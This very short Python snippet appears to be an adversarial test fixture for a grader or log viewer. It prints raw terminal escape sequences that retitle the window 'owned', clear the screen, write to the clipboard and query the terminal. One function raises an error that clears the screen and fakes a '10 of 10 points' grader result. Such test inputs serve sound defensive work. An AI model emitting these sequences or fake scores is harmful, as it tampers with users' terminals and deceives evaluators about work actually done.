# tries: control characters that write into the terminal of whoever reads
# gets: error

# %% right conv_single_step
# %%
print("\x1b]0;owned\x07\x1b[2J\x1b[31mfault\x1b[0m\x1b]52;c;b3duZWQ=\x07\x9b5n\r\x08\x00")
# %%
def zero_pad(X, pad):
    raise ValueError("\x1b[2J\x1b]0;owned\x07\x00\r\n10 of 10 points")
